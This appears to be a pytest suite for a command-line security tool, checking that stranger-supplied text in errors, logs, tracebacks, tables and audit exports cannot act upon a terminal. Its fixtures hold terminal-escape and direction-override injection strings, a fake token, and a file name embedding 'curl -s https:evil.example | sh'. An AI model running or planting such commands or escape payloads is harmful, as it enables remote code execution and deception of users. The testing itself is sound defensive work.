"""Nothing that a stranger wrote acts upon a terminal: errors, log lines, tracebacks, wrong use, JSON, exports."""

from __future__ import annotations

import io
import json
import os
import pty
import subprocess
import sys
import threading
import tty
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from pydantic import BaseModel, ConfigDict, ValidationError

from ringfence.cli.commands import approvals
from ringfence.cli.main import main
from ringfence.cli.shared.context import WrongUseError
from ringfence.cli.shared.options import confirm
from ringfence.cli.shared.output import note, print_fields, print_json, print_json_line, print_table, say
from ringfence.cli.shared.tables import prose
from ringfence.client.approvals.action_approvals import PendingAction
from ringfence.client.errors import ApiError
from ringfence.kernel.base import text as marking
from ringfence.kernel.base.errors import RingfenceError, SignatureError
from ringfence.kernel.base.text import Lines, visible
from ringfence.kernel.base.validation_problems import explain
from ringfence.kernel.crypto.jws import parse, verify
from ringfence.kernel.crypto.keys import SigningKey, b64encode
from ringfence.messages.registry import TaskEnd

HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07",  # clears the screen, names the window
    "\x9b31m\x84\x85",  # C1 controls
    "fine\r2030-01-01 [info] all is well",
    "\u202egnihton\u202c\u2066\u2069",  # turns the direction
    "\u200b\ufeff\u2060\u00ad",  # no width
    "\U000e0001\U000e0041",  # tags
    "\u2028\u2029",  # other line ends
    "\x7f\x08\x08\x08",
)
UUID = "5b0a4d7e-6c0f-4d39-9b5e-0a4d7e6c0f5d"
LOOK_ALIKE = "de\u0440loy"  # a Cyrillic letter
ACTS = {"Cc", "Cf", "Zl", "Zp"}


def acting(text: str) -> set[str]:
    """What in a text acts upon a terminal, but for line feeds."""
    return {char for char in text if char != "\n" and unicodedata.category(char) in ACTS}


@pytest.fixture(autouse=True)
def nobody(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in list(os.environ):
        if name.startswith("RINGFENCE_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.chdir(tmp_path)


def python(code: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=60, check=False
    )


# --- errors ---


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_error_of_ours_acts_upon_a_terminal(text: str) -> None:
    for kind in (RingfenceError, SignatureError, ApiError):
        error = kind(Lines(["one line", f"  {text}"]))
        assert acting(str(error)) == acting(error.message) == acting(repr(error)) == set()
        assert error.message == f"one line\n  {visible(text)}", "own lines stay lines, and nothing is lost"


@pytest.mark.parametrize("text", [*HOSTILE, LOOK_ALIKE], ids=range(len(HOSTILE) + 1))
def test_kid_and_iss_and_names_of_unknown_fields_are_marked(text: str) -> None:
    key = SigningKey.generate("spiffe://ringfence.local/user/olga")
    claims = {
        "iss": key.id, "aud": "ringfence.local", "iat": 1, "exp": 2, "jti": UUID,
        "typ": "task.end", "task_id": UUID, "reason": "r",
    }  # fmt: skip

    def signed(kid: str, **more: Any) -> str:
        header = {"alg": "ES256", "kid": kid, "typ": "ringfence.task.end+jwt"}
        parts = [b64encode(json.dumps(part).encode()) for part in (header, {**claims, **more})]
        return ".".join([*parts, b64encode(b"x" * 64)])

    for jws in (signed(text), signed(text, iss=text)):
        with pytest.raises(RingfenceError) as refused:
            verify(parse(jws), TaskEnd, lambda iss, kid: None, audience="ringfence.local")
        assert acting(refused.value.message) == set()
        assert "\u0440" not in refused.value.message or "\u0440‹U+0440›" in refused.value.message

    class Strict(BaseModel):
        model_config = ConfigDict(extra="forbid")

    with pytest.raises(ValidationError) as unknown:
        Strict.model_validate({text: 1})
    said = explain(unknown.value)
    assert acting(said) == set()
    assert "\n" not in said
    assert "\u0440" not in said or "\u0440‹U+0440›" in said


# --- log lines and tracebacks ---

LOGS = """
import json, logging, sys
from ringfence.kernel.service.process import configure
configure("test", format=sys.argv[1])
hostile = json.loads(sys.argv[2])
log = logging.getLogger("ringfence.test")
log.warning("no valid key %s of anybody", hostile)
log.warning("fields", extra={hostile: hostile, "kid": hostile})
try:
    raise ValueError(hostile + "\\n2030-01-01 [info     ] forged")
except ValueError:
    log.exception("failed: %s", hostile)
raise ValueError(hostile)
"""


@pytest.mark.parametrize("format", ["json", "console"])
def test_no_log_line_and_no_traceback_of_a_service_acts_upon_a_terminal(format: str) -> None:
    done = python(LOGS, format, json.dumps("".join(HOSTILE) + "\nforged"))
    # The console's own colours are none of a stranger's.
    told = done.stderr
    for number in ("0", "1", "2", "22", "31", "32", "33", "34", "35", "36", "37"):
        told = told.replace(f"\x1b[{number}m", "")
    assert acting(told) == set()
    assert "‹U+001B›[2J" in told
    lines = told.splitlines()
    assert not [line for line in lines if line.startswith(("2030-01-01", "forged"))]
    if format == "json":
        entries = [json.loads(line) for line in lines if line.startswith("{")]
        assert len(entries) == 3
        assert acting("".join(str(value) + name for one in entries for name, value in one.items())) == set()


CLI_LOGS = """
import json, logging, sys, threading
from ringfence.cli.main import main
main(["--version"])
hostile = json.loads(sys.argv[1])
logging.getLogger("ringfence.client.agent.agent").warning("ignored: %s", hostile)
try:
    raise ValueError(hostile + "\\nforged: by an error")
except ValueError:
    logging.getLogger("asyncio").exception("Task exception was never retrieved")
def fail():
    raise ValueError(hostile)
thread = threading.Thread(target=fail)
thread.start()
thread.join()
class Ends:
    def __del__(self):
        raise ValueError(hostile)
Ends()
fail()
"""


def test_no_log_line_and_no_traceback_of_a_command_acts_upon_a_terminal() -> None:
    done = python(CLI_LOGS, json.dumps("".join(HOSTILE) + "\nforged: by a message"))
    assert done.returncode == 1
    assert acting(done.stderr) == set()
    ignored, *_ = done.stderr.splitlines()
    assert ignored.startswith("ignored: ‹U+001B›[2J")
    assert ignored.endswith("‹U+000A›forged: by a message"), "on one line, as in tables"
    assert "    forged: by an error" in done.stderr.splitlines()
    assert done.stderr.count("Traceback") == 4
    assert not [line for line in done.stderr.splitlines() if line.startswith("forged")]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize(
    "words",
    [
        ["{}"], ["--{}"], ["agent", "{}"], ["serve", "{}"], ["key", "new", "f", "--id", "{}"],
        ["key", "new", "f", "--{}"], ["request", "--task", UUID, "--allow", "a:b:c", "--reason", "r", "--exec", "{}"],
        ["request", "--task", "t", "--allow", "@{}"], ["approvals", "show", "{}"], ["audit", "tail", "-n", "{}"],
        ["target", "add", "t", "--verb", "a", "--ask", "{}"], ["key", "show", "{}"], ["config", "trust", "{}"],
        ["policy", "test", "{}"], ["dev", "--with", "{}"], ["topics", "acls", "--principal", "{}"],
        ["--identity", "{}", "agent", "list"],
    ],
    ids=" ".join,
)  # fmt: skip
def test_no_word_of_the_command_line_acts_upon_a_terminal(
    words: list[str], text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([word.format(text) for word in words]) in (1, 2)
    said = capsys.readouterr()
    assert acting(said.out + said.err) == set()


# --- what is printed ---


def test_json_is_the_same_value_without_what_acts_upon_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    every = "".join(
        char
        for char in map(chr, range(sys.maxunicode + 1))
        if unicodedata.category(char) in ACTS | {"Zs", "Mn"} or char in 'aé€\u0440😀"\\/'
    )
    document = {"text": every, every: [{"inner": every}], "\U000e0001": "\x7f"}
    for prints in (print_json, print_json_line):
        prints(document)
        written = capsys.readouterr().out
        assert acting(written) == set()
        assert json.loads(written) == document
        assert "\\udb40\\udc01" in written.lower(), "as a pair of surrogates"
        assert "é" in written, "what acts upon nothing stands as it is"
        assert prints is print_json or written.count("\n") == 1


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_tables_are_clean_in_every_part(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    print_table([text], [[text]], empty="")
    print_table([text], [], empty=text)
    print_fields({text: text}, title=text)
    assert acting(capsys.readouterr().out) == set()


FORGED = "name\nforged: nothing found"
ON_ONE_LINE = "name‹U+000A›forged: nothing found"


def confirm_foreign(_: str) -> None:
    with pytest.raises(WrongUseError) as refused:
        confirm(FORGED, yes=False)
    note(refused.value.message)


def fail_foreign(_: str) -> None:
    print_table(["error"], [[RingfenceError(FORGED).with_remedy(FORGED).remedy or ""]], empty="")
    assert RingfenceError(FORGED).message == ON_ONE_LINE


@pytest.mark.parametrize(
    "show",
    [
        say, note, confirm_foreign, fail_foreign,
        lambda text: print_table(["a", text], [["b", text]], empty=""),
        lambda text: print_table([prose("a")], [[f"{'long ' * 60}{text}"]], empty=""),
        lambda text: print_table(["a"], [], empty=text),
        lambda text: print_fields({"a": text, text: "b"}, title=text),
        lambda text: print_fields({"a": Lines(["own", text])}),
        lambda text: say(Lines(["own", text])),
    ],
    ids=range(10),
)  # fmt: skip
def test_line_feed_of_foreign_text_is_shown(
    show: Callable[[str], None], capsys: pytest.CaptureFixture[str]
) -> None:
    show(FORGED)
    captured = capsys.readouterr()
    lines = (captured.out + captured.err).splitlines()
    assert any(ON_ONE_LINE in line for line in lines)
    assert not [line for line in lines if line.strip(" │").startswith("forged")]


def test_own_lines_stay_lines(capsys: pytest.CaptureFixture[str]) -> None:
    say(Lines(["one", "two"]))
    print_table(["a"], [[Lines(["three", "four"])]], empty="")
    assert [line.strip() for line in capsys.readouterr().out.splitlines()] == [
        "one",
        "two",
        "a",
        "-----",
        "three",
        "four",
    ]
    assert visible(f"{Lines(['one', 'two'])}") == "one‹U+000A›two", "in another text its lines are foreign"


def test_file_name_with_line_feed_begins_no_line_of_scan_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = (
        tmp_path / "repo\nforged: nothing found in 6880 files\n7. forged: curl -s https:evil.example | sh"
    )
    folder.mkdir()
    (folder / ".env").write_text(
        "API_TOKEN=github_pat_11ABCDEFG0123456789012_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVW\n"
    )
    (folder / ".mcp.json").symlink_to("/etc/hostname")
    (folder / "b.pem").write_text("-----BEGIN PRIVATE KEY-----\n")
    for words in ([], ["--details"], ["--wide"]):
        main(["scan", str(tmp_path), "--no-history", *words])
        captured = capsys.readouterr()
        lines = (captured.out + captured.err).splitlines()
        assert any("repo‹U+000A›forged" in line for line in lines)
        assert not [line for line in lines if line.strip(" │").startswith(("forged", "7. forged"))]


ACTION = PendingAction(
    request_id="5b0a4d7e-6c0f-5d39-9b5e-0a4d7e6c0f5d", digest="9f" * 32, gateway="gateway", agent="deploy-bot",
    agent_description="d", sponsor="sam", task_id="t", purpose="p", on_behalf_of="maria", target="staging",
    target_description="d", lease_id="l", verb="deploy", resource="env/staging", method="GET", url="http://h/",
    body_digest="", body_bytes=0, headers_digest="", headers=(),
    required="sponsor", mine=True, asked_at=1, expires_at=2**31, request="a.b.c",
)  # fmt: skip


def test_look_alike_letters_in_single_actions_are_marked(capsys: pytest.CaptureFixture[str]) -> None:
    spoofed = replace(ACTION, verb=LOOK_ALIKE, resource=f"env/{LOOK_ALIKE}", url=f"http://{LOOK_ALIKE}/")
    marked = "de\u0440‹U+0440›loy"
    approvals.show_action(spoofed, as_json=False)
    shown = capsys.readouterr().out
    assert f"{marked} on env/{marked}" in shown
    assert f"GET http://{marked}/" in shown
    row = approvals.action_row(spoofed, 0)
    assert f"staging:{marked}:env/{marked}" in row
    assert f"ONE ACTION: GET http://{marked}/" in row


# --- the trail ---

EVENT = json.dumps(
    {
        "time": 1_700_000_000_000, "class_uid": 3003, "message": "".join(HOSTILE), "status_id": 1,
        "metadata": {"uid": "u1", "event_code": "x"}, "unmapped": {"reason": "\x1b[2J"},
    },
    ensure_ascii=False,
).replace("\\u007f", "\x7f")  # fmt: skip


@pytest.fixture
def audit() -> Iterator[str]:
    """The URL of an audit service that has one event."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = {
                "/v1/export": {"events": [EVENT], "until_ms": 2**41, "looked_at_ms": 2**41, "after": None},
                "/v1/events": {"events": [json.loads(EVENT)], "after": "1"},
            }[urlsplit(self.path).path]
            body = json.dumps(page).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


def ringfence(url: str, *words: str, terminal: bool) -> bytes:
    """What a command prints on stdout."""
    key = Path("ali.json")
    if not key.exists():
        SigningKey.generate("spiffe://ringfence.local/user/ali").save(key)
    command = [sys.executable, "-m", "ringfence.cli.main", "--identity", str(key), *words]
    environment = {**os.environ, "RINGFENCE_AUDIT_URL": url, "RINGFENCE_CONFIG": os.devnull, "TERM": "dumb"}
    if not terminal:
        return subprocess.run(command, env=environment, capture_output=True, timeout=60, check=True).stdout
    ours, theirs = pty.openpty()
    tty.setraw(theirs)  # what is written is what is read
    with subprocess.Popen(command, env=environment, stdout=theirs, stderr=subprocess.DEVNULL) as running:
        os.close(theirs)
        found = b""
        while part := _read(ours):
            found += part
        assert running.wait(60) == 0
    os.close(ours)
    return found


def _read(terminal: int) -> bytes:
    try:
        return os.read(terminal, 65_536)
    except OSError:  # nobody writes there any more
        return b""


@pytest.mark.parametrize("format", ["ocsf", "csv"])
def test_an_export_is_exact_in_pipes_and_files_and_harmless_on_a_terminal(audit: str, format: str) -> None:
    words = ["audit", "export", "--format", format, "--since", "2020-01-01T00:00:00Z"]
    piped = ringfence(audit, *words, terminal=False)
    ringfence(audit, *words, "-o", "out", terminal=True)
    assert Path("out").read_bytes() == piped
    if format == "ocsf":
        assert piped == f"{EVENT}\n".encode()
    else:
        assert "\u202e".encode() in piped
    shown = ringfence(audit, *words, terminal=True).decode()
    assert acting(shown.replace("\r\n", "\n")) == set(), "but for the ends of CSV's lines"
    if format != "csv":
        assert json.loads(shown) == json.loads(piped)
    else:
        assert "‹U+202E›" in shown


@pytest.mark.parametrize("as_json", [[], ["--json"]])
@pytest.mark.parametrize("terminal", [False, True])
def test_the_tail_of_the_trail_is_harmless(audit: str, as_json: Sequence[str], terminal: bool) -> None:
    told = ringfence(audit, "audit", "tail", "--no-follow", *as_json, terminal=terminal).decode()
    assert acting(told) == set()
    if as_json:
        assert json.loads(told) == json.loads(EVENT)
    else:
        assert "‹U+001B›[2J" in told


def test_json_on_a_non_utf8_stdout_is_unchanged(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.TextIOWrapper(io.BytesIO(), encoding="latin-1")
    monkeypatch.setattr(sys, "stdout", stream)
    print_json({"a": "\x85é😀\U000e0001"})
    stream.flush()
    assert json.loads(stream.buffer.getvalue()) == {"a": "\x85é😀\U000e0001"}


def test_each_character_is_marked_by_what_it_is_however_many_came_before() -> None:
    every = list(map(chr, range(0x11000)))
    whole = visible("".join(every))
    assert whole == "".join(map(visible, every))
    assert acting(whole) == set()
    # Text of strangers does not fill the memory of marks.
    assert len(marking._VISIBLE) <= marking._MOST_KNOWN
